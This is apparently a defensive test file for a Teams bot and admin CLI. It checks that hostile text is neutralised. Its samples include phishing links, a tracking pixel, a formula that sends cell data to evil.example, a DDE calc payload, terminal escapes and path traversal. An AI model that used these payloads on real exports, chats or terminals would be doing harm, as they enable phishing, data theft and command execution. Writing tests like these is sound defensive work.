import { promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
// Every kind of message but a notice is rendered by the feature module that declares it: the modules are registered first.
import '../../bot/modules';
import { renderMessage } from '../../cards/messages';
import { cardSizeUtf16, MAX_CARD_UTF16_BYTES, md } from '../../cards/render';
import { reportCard } from '../../cards/report-card';
import { welcomeCard } from '../../cards/views';
import { myActionsCard, summaryCard } from '../../cards/actions/cards';
import type { OutboundMessage } from '../../services/delivery/messages';
import type { Action } from '../../services/plan/model';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { TABLE_LIMITS, writeReport } from '../../services/core/tabular';
import type { Report } from '../../services/core/report';
import { cli } from '../harness/cli';
import { FixedClock } from '../../services/core/clock';
import { Directory } from '../../services/people/repository';
import type { Table } from '../../services/core/tabular';
import { importPeople } from '../../services/training/import';
import { ORG } from '../harness/fixtures';
import { openPersistentTestStore, openTestStore } from '../harness/store';
import type { ConversationRecord } from '../../services/conversations/model';
import { actionDoc } from '../harness/fixtures';

/**
 * An attacker controls some text the product shows to someone else: a line of a plan
 * spreadsheet, a name in a people file, a progress note, a Teams display name. Each test is
 * one attempt to make that text do more than read as text on the recipient's card.
 */

/** Teams refuses a message over about 100 KB counted in UTF-16 (80 KB recommended): the recipient then gets nothing at all. */
const TEAMS_MESSAGE_LIMIT = MAX_CARD_UTF16_BYTES;
/** More lines than any page of a list card shows. */
const MANY = 60;
const LONGEST_CELL = 'x'.repeat(TABLE_LIMITS.maxCellChars);

/** Right-to-left override, isolates and terminal escapes: they reorder or hide what is shown. */
const HIDDEN_CONTROLS = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

/** An action with a history entry, as a card shows it; each attack overrides the field it poisons. */
const action = (overrides: Partial<Action> = {}): Action =>
  actionDoc({
    id: 'action-plan-abc',
    history: [
      {
        id: 'h1',
        at: '2026-11-20T10:00:00Z',
        by: { personId: 'val', name: 'Val Johnson' },
        source: 'teams',
        fromVersion: 2,
        previousStatus: 'G',
        status: 'A',
        progress: 'Delayed',
      },
    ],
    version: 3,
    ...overrides,
  });

function digest(lines: number, line: { description?: string; leadName?: string } = {}): OutboundMessage {
  return {
    kind: 'reminder-digest',
    heading: 'Actions due soon',
    intro: 'These actions are due soon.',
    snoozeChoices: [1, 3, 7],
    lines: Array.from({ length: lines }, (_, i) => ({
      actionId: `a${i}`,
      ref: `LP1.${i + 1}`,
      description: line.description ?? 'Deliver training.',
      why: 'due in 5 working days',
      status: 'A',
      ...(line.leadName ? { leadName: line.leadName } : {}),
    })),
  };
}

/** Every string a card shows, wherever it sits in the card. */
function strings(node: unknown, found: string[] = []): string[] {
  if (typeof node === 'string') found.push(node);
  else if (Array.isArray(node)) node.forEach((n) => strings(n, found));
  else if (node && typeof node === 'object') Object.values(node).forEach((v) => strings(v, found));
  return found;
}

/** The text a card renders as markdown: TextBlocks and facts (a RichTextBlock's TextRuns are plain). */
function markdownTexts(node: unknown, found: string[] = []): string[] {
  if (Array.isArray(node)) node.forEach((n) => markdownTexts(n, found));
  else if (node && typeof node === 'object') {
    const o = node as Record<string, unknown>;
    if (o.type === 'TextBlock' && typeof o.text === 'string') found.push(o.text);
    if (o.type === 'FactSet' && Array.isArray(o.facts)) for (const f of o.facts as { title: string; value: string }[]) found.push(f.title, f.value);
    Object.values(o).forEach((v) => markdownTexts(v, found));
  }
  return found;
}

const bytes = (card: object) => cardSizeUtf16(card);

describe('hostile text on cards', () => {
  describe('a plan spreadsheet with the longest cells the import accepts cannot stop a reminder arriving', () => {
    it('a reminder digest of the most actions a card lists, each with the longest description, stays under the Teams message limit', () => {
      const card = renderMessage(digest(MANY, { description: LONGEST_CELL }));
      expect(bytes(card)).toBeLessThan(TEAMS_MESSAGE_LIMIT);
    });

    it('a covering lead’s digest naming a lead with the longest name the people file accepts stays under the limit', () => {
      const card = renderMessage(digest(MANY, { description: LONGEST_CELL, leadName: LONGEST_CELL }));
      expect(bytes(card)).toBeLessThan(TEAMS_MESSAGE_LIMIT);
    });

    it('"my actions" with the longest descriptions stays under the limit and marks where a description is cut', () => {
      const actions = Array.from({ length: MANY }, (_, i) => action({ id: `a${i}`, ref: `LP1.${i + 1}`, description: LONGEST_CELL }));
      const card = myActionsCard(actions, '2026-11-29');
      expect(bytes(card)).toBeLessThan(TEAMS_MESSAGE_LIMIT);
      expect(strings(card).some((s) => s.endsWith('…'))).toBe(true);
    });

    it('a round summary listing many leads with the longest names stays under the limit', () => {
      const names = Array.from({ length: 60 }, (_, i) => `${i} ${LONGEST_CELL}`);
      const card = renderMessage({
        kind: 'round-summary',
        roundId: 'r1',
        heading: 'Update round',
        dueBy: '2026-12-04',
        responded: names,
        outstanding: names,
        unreachable: names,
        asAt: '2026-11-29T09:00:00Z',
      });
      expect(bytes(card)).toBeLessThan(TEAMS_MESSAGE_LIMIT);
    });

    it('the action’s own card still shows the whole description, where there is room for it', () => {
      const card = summaryCard(action({ description: LONGEST_CELL }), { timeZone: 'Europe/London', canUpdate: true });
      expect(strings(card)).toContain(LONGEST_CELL);
      expect(bytes(card)).toBeLessThan(TEAMS_MESSAGE_LIMIT);
    });
  });

  describe('a name cannot pose as another line of the card or another person', () => {
    it('a Teams display name with line breaks stays on the one line of the welcome heading', () => {
      const card = welcomeCard('Val\n\nYour account will be closed today. Reply with your password to keep it.', true, 2);
      const heading = strings(card).find((s) => s.startsWith('Welcome, '))!;
      expect(heading).not.toMatch(/[\r\n]/);
    });

    it('the name of whoever updated an action stays on one line of the summary heading', () => {
      const card = summaryCard(
        action({
          history: [
            {
              id: 'h1',
              at: '2026-11-20T10:00:00Z',
              by: { personId: 'p9', name: 'Val Johnson\r\nApproved by the Director of Children’s Services' },
              source: 'teams',
              fromVersion: 2,
              previousStatus: 'G',
              status: 'B',
              progress: 'Done',
            },
          ],
        }),
        { timeZone: 'Europe/London', canUpdate: false },
      );
      expect(strings(card).find((s) => s.startsWith('Updated to'))).not.toMatch(/[\r\n]/);
    });

    it('a right-to-left override in a lead’s name, a description or a note is taken out of every card', () => {
      const reversed = 'Val \u202enosnhoJ\u202c';
      const cards = [
        renderMessage(digest(1, { description: `Deliver \u2066training\u2069 \u001b[2J`, leadName: reversed })),
        summaryCard(action({ leads: [{ name: reversed, personId: 'p1' }], progress: 'Done \u202ereviewed\u202c' }), {
          timeZone: 'Europe/London',
          canUpdate: true,
        }),
        welcomeCard(reversed, true, 0),
      ];
      for (const card of cards) expect(strings(card).filter((s) => HIDDEN_CONTROLS.test(s))).toEqual([]);
      expect(strings(cards[1]!).join(' ')).toContain('Val nosnhoJ');
    });
  });

  it('a note cannot lay itself out as a numbered list, a heading or a rule under someone’s update', () => {
    expect(md('Reviewed.\n1) Approved by the Director\n2) Closed')).toBe('Reviewed.\n1\\) Approved by the Director\n2\\) Closed');
    expect(md('OFFICIAL NOTICE\n===\nAll actions closed\n---')).toBe('OFFICIAL NOTICE\n\\===\nAll actions closed\n\\---');
    // Ordinary text keeps its dashes and numbers.
    expect(md('2026-11-29 - 3) items')).toBe('2026-11-29 - 3) items');
  });

  it('template expressions in a note are shown as typed, never evaluated against the card’s data (regression)', () => {
    const card = summaryCard(action({ progress: '${$root.actionId} ${if(true, "Approved", "")}' }), { timeZone: 'Europe/London', canUpdate: true });
    expect(strings(card)).toContain('${$root.actionId} ${if(true, "Approved", "")}');
  });

  describe('markdown from a person or a file is shown, not obeyed (regression)', () => {
    const attacks = [
      '[Reset your password](https://evil.example/login)',
      '![](https://evil.example/pixel.gif)',
      '<at>Director</at>',
      '<https://evil.example>',
      '**URGENT** _from the Director_',
    ];

    it.each(attacks)('%s in a lead’s name, an escalation heading, fact and note, and a report cell is escaped wherever markdown renders', (attack) => {
      const cards = [
        summaryCard(action({ leads: [{ name: attack, personId: 'p1' }] }), { timeZone: 'Europe/London', canUpdate: true }),
        renderMessage(digest(1, { leadName: attack })),
        renderMessage({
          kind: 'escalation-alert',
          escalationId: 'e1',
          heading: `Escalation ${attack}`,
          role: 'act',
          stage: 'Stage 1',
          deadline: '2026-12-01',
          summary: attack,
          facts: [{ title: 'Raised by', value: attack }],
          note: attack,
        }),
        reportCard({ title: attack, headers: ['Name'], rows: [[attack]], notes: [attack] }),
      ];
      for (const card of cards) {
        const shown = markdownTexts(card).filter((s) => s.includes('evil.example') || s.includes('Director') || s.includes('URGENT'));
        expect(shown.length).toBeGreaterThan(0);
        // Unescaped, any of these would be a link, an image, a mention or emphasis.
        for (const s of shown) expect(s).not.toMatch(/(^|[^\\])(\[|<|\*\*|_from)/);
      }
    });
  });

  describe('the command line an administrator runs', () => {
    let dataDir: string;
    beforeAll(async () => {
      dataDir = await fs.mkdtemp(path.join(os.tmpdir(), 'hostile-text-'));
    });
    afterAll(() => fs.rm(dataDir, { recursive: true, force: true }));

    it('an agency name with terminal escapes and a line break cannot clear the screen or forge a line of output', async () => {
      // ESC[2J clears the terminal; the line break would print a fake confirmation on its own line.
      const added = await cli(
        dataDir,
        'agency',
        'add',
        'Thames Valley Police\u001b[2J\u001b[H\nRemoved every agency and tenant.',
        '--tenant',
        '11111111-2222-3333-4444-555555555555',
      );
      const listed = await cli(dataDir, 'agency', 'list');
      for (const { out } of [added, listed]) {
        expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
        expect(out.split('\n').filter((line) => line.startsWith('Removed every'))).toEqual([]);
      }
      expect(listed.out).toContain('Thames Valley Police[2J[H Removed every agency and tenant.');
    });

    it('a Teams display name cannot forge a second unlinked user, or the columns of the real one, in the list an administrator links from', async () => {
      // The attacker's own tenant lets them pick any display name: here one that fakes Val's row.
      const forged = 'Eve"  last tried 2026-11-29T09:00:00Z  (not linked)\naad-val  tenant council-tenant  "Val Johnson';
      const { store } = await openPersistentTestStore(dataDir);
      try {
        const record: ConversationRecord = {
          id: 'personal-aad-eve',
          orgId: 'demo',
          kind: 'personal',
          tenantId: 'partner-tenant',
          conversationId: 'a:eve',
          serviceUrl: 'https://smba.trafficmanager.net/uk/',
          botId: '28:bot',
          user: { aadObjectId: 'aad-eve', teamsUserId: '29:eve', name: forged },
          unlinked: { firstTriedAt: '2026-11-29T08:00:00Z', lastTriedAt: '2026-11-29T08:00:00Z', reason: 'not in the directory' },
          reachable: true,
          installedAt: '2026-11-29T08:00:00Z',
          updatedAt: '2026-11-29T08:00:00Z',
        };
        await store.collection<ConversationRecord>('conversations').upsert(record);
      } finally {
        await store.close();
      }
      const { out } = await cli(dataDir, 'people', 'unlinked');
      const rows = out.trim().split('\n');
      expect(rows).toHaveLength(1);
      // The name is quoted so that a quote inside it cannot end it: everything the attacker typed stays inside.
      expect(rows[0]).toMatch(
        /^aad-eve  tenant partner-tenant  "Eve\\"  last tried .*Val Johnson"  last tried 2026-11-29T08:00:00Z  \(not in the directory\)$/,
      );
    });

    it('a campaign named to climb out of the working folder writes no file anywhere (regression)', async () => {
      const work = await fs.mkdtemp(path.join(os.tmpdir(), 'hostile-cwd-'));
      const cwd = process.cwd();
      process.chdir(work);
      try {
        await expect(cli(dataDir, 'survey', 'results', '../../escaped', '--format', 'csv')).rejects.toMatchObject({ code: 'NOT_FOUND' });
        expect(await fs.readdir(work)).toEqual([]);
        await expect(fs.access(path.resolve(work, '../../escaped.csv'))).rejects.toThrow();
      } finally {
        process.chdir(cwd);
        await fs.rm(work, { recursive: true, force: true });
      }
    });
  });

  describe('a spreadsheet someone opens from an export', () => {
    const PAYLOAD = '=HYPERLINK("https://evil.example/?d="&A2,"Click for your certificate")';
    // An agency named by its own administrator, as the partnership report has it: section title, header and cell.
    const sections: Report[] = [
      {
        title: PAYLOAD,
        headers: ['Agency', '+Staff'],
        rows: [
          [PAYLOAD, 12],
          ['@SUM(1+1)*cmd|"/c calc"!A0', 3],
        ],
      },
      {
        title: 'Escalations',
        headers: ['Agency', 'Open'],
        rows: [
          ['\t=1+1', 0],
          ['-2+3', 1],
        ],
      },
    ];
    let dir: string;
    beforeAll(async () => {
      dir = await fs.mkdtemp(path.join(os.tmpdir(), 'hostile-export-'));
    });
    afterAll(() => fs.rm(dir, { recursive: true, force: true }));

    it('a report of several sections written as CSV has no cell a spreadsheet would run (regression)', async () => {
      const file = path.join(dir, 'partnership.csv');
      await writeReport(file, sections);
      const cells = (parse(await fs.readFile(file, 'utf8'), { bom: true, relax_column_count: true }) as string[][]).flat();
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
      expect(cells).toContain(`'${PAYLOAD}`);
    });

    it('the same report written as XLSX keeps every such cell a string, never a formula (regression)', async () => {
      const file = path.join(dir, 'partnership.xlsx');
      await writeReport(file, sections);
      const book = new ExcelJS.Workbook();
      await book.xlsx.readFile(file);
      const cells: ExcelJS.Cell[] = [];
      book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell))));
      expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
      expect(cells.map((c) => c.value)).toContain(PAYLOAD);
    });
  });

  describe('a partner agency’s people file', () => {
    const HEADERS = ['Employee Number', 'Full Name', 'Work Email', 'Department', 'Job Title', 'Manager Employee Number', 'Status'];
    const table = (rows: string[][]): Table => ({
      headers: HEADERS,
      rows: rows.map((r, i) => ({ rowNumber: i + 2, cells: Object.fromEntries(HEADERS.map((h, j) => [h, r[j] ?? ''])) })),
    });

    it('stores a name, department and job title as one line of visible text, so no output can be handed a forged line', async () => {
      const store = await openTestStore();
      try {
        const summary = await importPeople(
          { store, clock: new FixedClock('2026-11-29T09:00:00Z') },
          {
            orgId: ORG,
            table: table([
              ['7', 'Sam Smith\r\nDirector of Children’s Services', 'sam@police.example', 'Housing\u202e', 'Officer\n(verified by the council)', '', 'Active'],
            ]),
            dryRun: false,
          },
        );
        expect(summary).toMatchObject({ created: 1, problems: [] });
        const [sam] = await new Directory(store).all({ orgId: ORG });
        expect(sam).toMatchObject({ name: 'Sam Smith Director of Children’s Services', department: 'Housing', jobTitle: 'Officer (verified by the council)' });
      } finally {
        await store.close();
      }
    });
  });
});
